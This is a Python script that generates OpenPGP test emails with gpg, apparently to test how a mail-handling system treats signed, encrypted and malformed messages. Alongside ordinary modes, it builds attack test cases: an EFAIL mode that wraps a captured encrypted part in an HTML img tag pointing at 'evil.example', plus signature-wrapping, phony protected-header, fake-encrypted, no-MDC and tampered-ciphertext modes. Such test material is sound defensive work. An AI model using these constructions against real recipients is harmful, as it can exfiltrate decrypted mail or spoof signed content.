#!/usr/bin/env python3
"""pgpmail.py - build OpenPGP test mails at run time with the real gpg.

usage: pgpmail.py [options] > message.eml
The body comes from --body (\\n escapes allowed) or --body-file. Modes:
  plain        no OpenPGP
  signed       multipart/signed (RFC 3156) by --signer
  encrypted    multipart/encrypted to --recipient, not signed
  combined     multipart/encrypted, one OpenPGP message signed and encrypted
  nested       multipart/encrypted whose plaintext is a multipart/signed
  inline-signed     text/plain with a cleartext signature
  inline-encrypted  text/plain with an armoured signed+encrypted message
Keys are always named by fingerprint. GNUPGHOME must hold the keys.
"""
import argparse, email.policy, subprocess, sys
from email.header import Header
from email.mime.application import MIMEApplication
from email.mime.base import MIMEBase
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.message import Message

POL = email.policy.SMTP.clone(linesep="\r\n", max_line_length=998)

def gpg(args, data):
    p = subprocess.run(["gpg", "--batch", "--yes", "--quiet", "--no-tty", "--trust-model", "always",
                        "--pinentry-mode", "loopback", "--passphrase", ""] + args,
                       input=data, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    if p.returncode != 0:
        sys.exit("gpg failed: " + p.stderr.decode(errors="replace"))
    return p.stdout

def inner_entity(a):
    if getattr(a, "phony_protected", None):
        mixed = MIMEMultipart("mixed")
        mixed.attach(MIMEText(a.body, "plain", "utf-8"))
        phony = MIMEText("", "plain", "utf-8")
        phony.set_param("protected-headers", "v1")
        phony["Subject"] = a.phony_protected
        mixed.attach(phony)
        return mixed
    body = a.body
    if a.charset.lower() == "iso-2022-jp":
        part = MIMEText(body, "plain", "iso-2022-jp")
    elif a.charset.lower() == "us-ascii":
        part = MIMEText(body, "plain", "us-ascii")
    else:
        part = MIMEText(body, "plain", "utf-8")
    if a.protected_subject is not None:
        part.set_param("protected-headers", "v1")
        part["Subject"] = Header(a.protected_subject, "utf-8").encode()
    if a.attach_key:
        key = gpg(["--armor", "--export", a.attach_key], b"")
        mixed = MIMEMultipart("mixed")
        if a.protected_subject is not None:
            mixed.set_param("protected-headers", "v1")
            mixed["Subject"] = Header(a.protected_subject, "utf-8").encode()
            del part["Subject"]
            part.del_param("protected-headers")
        mixed.attach(part)
        k = MIMEApplication(key, "pgp-keys", _encoder=lambda m: None)
        k.set_payload(key.decode())
        k["Content-Disposition"] = 'attachment; filename="key.asc"'
        mixed.attach(k)
        return mixed
    return part

def canon(entity):
    return entity.as_bytes(policy=POL)

def signed(entity, signer):
    data = canon(entity)
    users = []
    for u in signer.split(","):
        users += ["--local-user", u]
    sig = gpg(["--armor", "--detach-sign", "--digest-algo", "SHA256"] + users, data)
    outer = MIMEMultipart("signed", protocol="application/pgp-signature", micalg="pgp-sha256")
    outer.attach(entity)
    s = MIMEBase("application", "pgp-signature", name="signature.asc")
    s.set_payload(sig.decode())
    outer.attach(s)
    return outer

def encrypted(data, recipients, signer=None, extra=()):
    args = ["--armor", "--encrypt"] + list(extra)
    for r in recipients:
        args += ["--recipient", r]
    if signer:
        args += ["--sign", "--local-user", signer]
    ct = gpg(args, data)
    outer = MIMEMultipart("encrypted", protocol="application/pgp-encrypted")
    v = MIMEBase("application", "pgp-encrypted")
    v.set_payload("Version: 1\r\n")
    outer.attach(v)
    c = MIMEBase("application", "octet-stream", name="encrypted.asc")
    c.set_payload(ct.decode())
    outer.attach(c)
    return outer

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--mode", default="plain")
    ap.add_argument("--from", dest="from_", default="reporter@example.net")
    ap.add_argument("--to", default="vultures@example.org")
    ap.add_argument("--subject", default="report")
    ap.add_argument("--protected-subject")
    ap.add_argument("--message-id", required=True)
    ap.add_argument("--date", default="Sun, 22 Nov 2026 10:00:00 +0900")
    ap.add_argument("--body", default="")
    ap.add_argument("--body-file")
    ap.add_argument("--charset", default="utf-8")
    ap.add_argument("--signer")
    ap.add_argument("--recipient", action="append", default=[])
    ap.add_argument("--attach-key")
    ap.add_argument("--header", action="append", default=[])
    ap.add_argument("--prepend-text", help="wrap the signed entity in multipart/mixed after this text")
    ap.add_argument("--captured", help="a mail whose multipart/encrypted part is reused (EFAIL)")
    ap.add_argument("--append-text", help="with mixed-signed: put this text after the signed entity")
    ap.add_argument("--phony-protected", help="a second part claiming protected headers with this Subject")
    a = ap.parse_args()
    a.body = open(a.body_file).read() if a.body_file else a.body.replace("\\n", "\n")
    if a.mode == "plain":
        msg = inner_entity(a)
    elif a.mode == "signed":
        msg = signed(inner_entity(a), a.signer)
    elif a.mode == "encrypted":
        msg = encrypted(canon(inner_entity(a)), a.recipient)
    elif a.mode == "combined":
        msg = encrypted(canon(inner_entity(a)), a.recipient, a.signer)
    elif a.mode == "nested":
        msg = encrypted(canon(signed(inner_entity(a), a.signer)), a.recipient)
    elif a.mode == "inline-signed":
        text = gpg(["--clearsign", "--local-user", a.signer], a.body.encode(a.charset))
        msg = MIMEBase("text", "plain", charset=a.charset)
        msg.set_payload(text.decode("ascii", errors="strict") if a.charset.lower() == "iso-2022-jp" else text.decode(a.charset))
    elif a.mode == "inline-encrypted":
        args = ["--armor", "--encrypt", "--sign", "--local-user", a.signer]
        for r in a.recipient:
            args += ["--recipient", r]
        text = gpg(args, a.body.encode(a.charset))
        msg = MIMEText(text.decode(), "plain", "us-ascii")
    elif a.mode == "signed-stripped":
        msg = signed(inner_entity(a), a.signer)
        msg.set_payload([msg.get_payload()[0]])
    elif a.mode == "mixed-signed":
        msg = MIMEMultipart("mixed")
        if a.append_text is None:
            msg.attach(MIMEText(a.prepend_text or "", "plain", "utf-8"))
        msg.attach(signed(inner_entity(a), a.signer))
        if a.append_text is not None:
            msg.attach(MIMEText(a.append_text, "plain", "utf-8"))
    elif a.mode == "fake-encrypted":
        text = gpg(["--clearsign", "--local-user", a.signer], a.body.encode())
        msg = MIMEMultipart("encrypted", protocol="application/pgp-encrypted")
        v = MIMEBase("application", "pgp-encrypted"); v.set_payload("Version: 1\r\n"); msg.attach(v)
        c = MIMEBase("application", "octet-stream"); c.set_payload(text.decode()); msg.attach(c)
    elif a.mode == "efail":
        import email as _e
        captured = _e.message_from_bytes(open(a.captured, "rb").read())
        msg = MIMEMultipart("mixed")
        msg.attach(MIMEText('<img src="http://evil.example/', "html", "us-ascii"))
        msg.attach(captured if captured.get_content_type() == "multipart/encrypted" else captured.get_payload()[0])
        msg.attach(MIMEText('">', "html", "us-ascii"))
    elif a.mode == "no-mdc":
        msg = encrypted(canon(inner_entity(a)), a.recipient, None,
                        ["--rfc2440", "--cipher-algo", "CAST5"])
    elif a.mode == "tampered":
        import base64
        args = ["--encrypt", "--sign", "--local-user", a.signer]
        for r in a.recipient:
            args += ["--recipient", r]
        ct = bytearray(gpg(args, canon(inner_entity(a))))
        ct[len(ct) - 30] ^= 0x01
        msg = MIMEMultipart("encrypted", protocol="application/pgp-encrypted")
        v = MIMEBase("application", "pgp-encrypted"); v.set_payload("Version: 1\r\n"); msg.attach(v)
        c = MIMEBase("application", "octet-stream")
        c.set_payload(base64.encodebytes(bytes(ct)).decode()); c["Content-Transfer-Encoding"] = "base64"
        msg.attach(c)
    elif a.mode == "smime":
        msg = MIMEBase("application", "pkcs7-mime", smime_type="signed-data", name="smime.p7m")
        msg.set_payload("MIAGCSqGSIb3DQEHAqCAMIACAQExDzANBglghkgBZQMEAgEFADCABgkqhkiG9w0BBwGggCSABA==\n")
        msg["Content-Transfer-Encoding"] = "base64"
    else:
        sys.exit("unknown mode " + a.mode)
    if "Subject" in msg and a.mode not in ("plain",):
        del msg["Subject"]
    for name in ("From", "To", "Subject", "Date", "Message-ID"):
        if name in msg:
            del msg[name]
    headers = [("From", a.from_), ("To", a.to), ("Subject", a.subject), ("Date", a.date),
               ("Message-ID", "<%s>" % a.message_id)]
    for h in a.header:
        k, v = h.split(":", 1)
        headers.append((k.strip(), v.strip()))
    out = []
    for k, v in headers:
        if any(ord(ch) > 127 for ch in v) and k == "Subject":
            v = Header(v, "utf-8").encode()
        out.append(("%s: %s" % (k, v)).encode("utf-8"))
    if "MIME-Version" not in msg:
        out.append(b"MIME-Version: 1.0")
    body = msg.as_bytes(policy=email.policy.SMTP.clone(linesep="\n", max_line_length=998))
    sys.stdout.buffer.write(b"\n".join(out) + b"\n" + body)

main()
